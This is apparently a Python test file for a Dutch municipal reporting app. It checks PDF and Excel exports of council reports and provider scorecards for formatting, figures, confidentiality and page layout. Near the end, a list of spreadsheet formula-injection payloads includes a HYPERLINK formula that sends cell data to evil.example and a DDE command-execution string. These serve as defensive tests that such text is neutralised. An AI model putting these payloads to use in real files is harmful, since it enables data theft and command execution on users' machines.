"""The council report and the provider scorecard as PDF and Excel: real tables with number
formats, the snapshot's figures, and nothing the reader may not see."""

from __future__ import annotations

import dataclasses
import io
from typing import Any

import lxml.html
from openpyxl import load_workbook
from pypdf import PdfReader

from regie.catalog.models import Provider
from regie.formatting import euro, signed_euro
from regie.monitor import services
from regie.reports import cards, documents
from tests.monitor.region import AS_OF, OWN, OWN_NAME, YEAR
from tests.reports import layout


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_council_workbook_has_formatted_tables(region: None, db: None) -> None:
    data = documents.council_data(YEAR, AS_OF)
    wb = load_workbook(io.BytesIO(documents.council_xlsx(data)))
    ws = wb["Budget en prognose"]
    assert set(ws.tables) == {"Prognose", "Oorzaken"}
    rows = list(ws[ws.tables["Prognose"].ref])
    header = [c.value for c in rows[0]]
    assert header[:4] == ["Gemeente", "Segment", "Naam segment", "Budget"]
    forecast = {(r["municipality_name"], r["segment"]): r for r in data.forecast}
    assert len(rows) - 1 == len(forecast)
    for cells in rows[1:]:
        got = dict(zip(header, cells, strict=True))
        row = forecast[(got["Gemeente"].value, got["Segment"].value)]
        assert got["Prognose"].value == row["forecast"] / 100
        assert got["Prognose"].number_format == documents.EURO
        assert got["Waarschuwing"].value == ("ja" if row["warning"] else "nee")
    indicators = wb["Indicatoren"]
    cost = [c for c in next(iter(indicators[indicators.tables["Indicatoren"].ref]))]
    assert "Kosten per cliënt" in [c.value for c in cost]


def test_council_pdf_holds_the_figures_and_no_provider(region: None, db: None) -> None:
    data = documents.council_data(YEAR, AS_OF)
    text = pdf_text(documents.council_pdf(data))
    assert f"Raadsrapportage sociaal domein {YEAR}" in text
    for row in data.forecast:
        assert euro(row["forecast"]) in text and euro(row["budget"]) in text
    for name in Provider.objects.values_list("name", flat=True):
        assert name not in text
    warned = [r for r in data.forecast if r["warning"]]
    assert warned and all(f"Waarschuwing {r['municipality_name']}" in text for r in warned)


def test_provider_scorecard_workbook_and_pdf(region: None, db: None) -> None:
    data = documents.provider_data(OWN, YEAR, AS_OF)
    assert data.scorecards and all(c["provider"] == OWN for c in data.scorecards)
    wb = load_workbook(io.BytesIO(documents.provider_xlsx(data)))
    assert set(wb.sheetnames) == {"Scorekaart", "Indicatoren", "Prognose", "Grootboek", "Declaraties"}
    ws = wb["Scorekaart"]
    rows = list(ws[ws.tables["Scorekaart"].ref])
    lines = cards.lines(data.scorecards)
    assert len(rows) - 1 == len(lines)
    for cells, line in zip(rows[1:], lines, strict=True):
        value = cells[2].value
        expected = line["value"] / 100 if line["kind"] == "money" and line["value"] is not None else line["value"]
        assert (cells[0].value, cells[1].value, value) == (line["segment"], line["label"], expected)
    text = pdf_text(documents.provider_pdf(data))
    assert f"Scorekaart {OWN_NAME} {YEAR}" in text
    for line in lines:
        assert line["value_text"] in text
    others = set(Provider.objects.exclude(agb=OWN).values_list("name", flat=True))
    assert not [n for n in others if n in text]


def test_ledger_snapshot_in_the_scorecard(region: None, db: None) -> None:
    data = documents.provider_data(OWN, YEAR, AS_OF)
    ledger = services.latest("ledger", YEAR, AS_OF)
    assert ledger is not None
    assert [r["paid_cents"] for r in data.ledger] == [r["paid_cents"] for r in ledger.rows if r["provider"] == OWN]


# --------------------------------------------------------------------------------------------
# Every table fits its page


#: The widest amount a region shows (EUR -99,999,999) and the longest names, to lay out a
#: report at its widest.
WIDEST_CENTS = -9_999_999_999
LONG_NAMES = {
    "municipality_name": "Súdwest-Fryslân en Ouder-Amstel",
    "segment_name": "Specialistische jeugdhulp met verblijf (etmaal)",
    "provider_name": "Stichting Jeugdzorg Zuid-Limburg en omstreken",
}
MONEY_KEYS = {"budget", "realised", "ibnr", "remaining", "forecast", "low", "high", "amount", "cents", "ceiling"}


def widest(value: Any, key: str = "") -> Any:
    """``value`` with every amount at :data:`WIDEST_CENTS`, every count at 9,999,999 and
    long names: a report's data at its widest."""
    if isinstance(value, dict):
        money = key == "cost_per_client_cents"
        return {
            k: WIDEST_CENTS if money and isinstance(v, (int, float)) and not isinstance(v, bool) else widest(v, k)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [widest(v, key) for v in value]
    if key in LONG_NAMES and isinstance(value, str):
        return LONG_NAMES[key]
    if isinstance(value, bool) or not isinstance(value, int):
        return value
    return WIDEST_CENTS if key in MONEY_KEYS or key.endswith("_cents") else 9_999_999


def widest_data(data: documents.ReportData) -> documents.ReportData:
    fields = ("forecast", "indicators", "scorecards", "ledger", "declarations")
    return dataclasses.replace(data, **{f: widest(getattr(data, f)) for f in fields})


def html_headings(html: str) -> dict[str, list[str]]:
    """Per table id, its column headings as the HTML has them."""
    tree = lxml.html.fromstring(html)
    return {
        t.get("id"): [layout.collapse(th.text_content()) for th in t.findall("./thead/tr/th")]
        for t in tree.iter("table")
    }


def assert_tables_fit(html: str, what: str) -> dict[str, list[str]]:
    """Render ``html``: every table fragment lies inside its page, and every column heading (as
    set, line by line) and every cell of the last column is in that page's PDF text."""
    document = documents.render(html)
    laid_out = layout.tables(document)
    texts = layout.page_texts(document.write_pdf())
    expected = html_headings(html)
    assert {t.ident for t in laid_out} == set(expected), what
    for table in laid_out:
        assert table.fits, (
            f"{what}: table {table.ident} on page {table.page + 1} ends at {table.right:.0f}px, "
            f"past the page's {table.page_right:.0f}px ({table.widest!r})"
        )
        assert [" ".join(lines) for lines in table.headings] == expected[table.ident], (what, table.ident)
        text = texts[table.page]
        for line in [ln for lines in table.headings for ln in lines] + table.last_column:
            assert layout.collapse(line) in text, f"{what}: {line!r} of table {table.ident} not in the PDF's text"
    return expected


def test_council_pdf_tables_fit_the_page(region: None, db: None) -> None:
    data = documents.council_data(YEAR, AS_OF)
    for what, variant in (("council", data), ("council at its widest", widest_data(data))):
        headings = assert_tables_fit(documents.council_html(variant), what)
        forecast, indicators = headings["prognose"], headings["indicatoren"]
        for needed in ("Bandbreedte laag (10%)", "Bandbreedte hoog (90%)", "Verschil met budget", "Signaal"):
            assert needed in forecast
        for needed in ("Wachttijd (mediaan, dagen)", "Kosten per cliënt", "Bezwaren"):
            assert needed in indicators


def test_council_pdf_shows_the_difference_from_budget(region: None, db: None) -> None:
    data = documents.council_data(YEAR, AS_OF)
    text = pdf_text(documents.council_pdf(data))
    for row in data.forecast:
        assert signed_euro(row["forecast"] - row["budget"]) in text


def test_provider_pdf_tables_fit_the_page(region: None, db: None) -> None:
    providers = sorted({c["provider"] for c in services.latest("scorecards", YEAR, AS_OF).rows})  # type: ignore[union-attr]
    assert len(providers) >= 3
    for agb in providers:
        data = documents.provider_data(agb, YEAR, AS_OF)
        assert_tables_fit(documents.provider_html(data), f"scorecard {agb}")
    data = documents.provider_data(OWN, YEAR, AS_OF)
    headings = assert_tables_fit(documents.provider_html(widest_data(data)), "scorecard at its widest")
    assert "Bandbreedte hoog (90%)" in headings["prognose"] and "Betaald" in headings["grootboek"]


HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def test_no_text_becomes_a_formula_in_a_workbook() -> None:
    """Issue 12, failure 3: names that start like a formula are written as text (openpyxl
    would store them as formulas), with the quote prefix, in every workbook."""
    import datetime as dt
    import zipfile

    rows = [
        {
            "municipality_name": text,
            "segment": text,
            "segment_name": text,
            "label": text,
            "position": text,
            "kind": "int",
            "value": 1,
            "warning": True,
            "driver_lines": [{"label": text, "amount": 100}],
        }
        for text in HOSTILE
    ]
    data = documents.ReportData(
        title="=1+1",
        region="=2+2",
        year=2025,
        as_of=dt.date(2025, 6, 30),
        computed_at=None,
        forecast=rows,
        indicators=rows,
        scorecards=[],
        ledger=rows,
        declarations=rows,
        provider={"agb": "=3+3"},
    )
    books = {
        "council": documents.council_xlsx(data),
        "provider": documents.provider_xlsx(data),
        "gmsd": documents.gmsd_xlsx([{"gemeente": t, "municipality": t} for t in HOSTILE], 2025, data.as_of, "=r"),
    }
    for name, content in books.items():
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), name
        wb = load_workbook(io.BytesIO(content))
        texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        hostile = [c for c in texts if c.value.startswith(("=", "+", "-", "@"))]
        assert hostile, name
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), name


def test_the_gmsd_csv_quotes_text_that_starts_like_a_formula() -> None:
    from regie.reports import gmsd

    key = next(iter(gmsd.COLUMNS))
    text = documents.gmsd_csv([{key: t} for t in HOSTILE]).decode("utf-8-sig")
    for line in text.splitlines()[1:]:
        assert line.split(";")[0].strip('"').startswith("'")
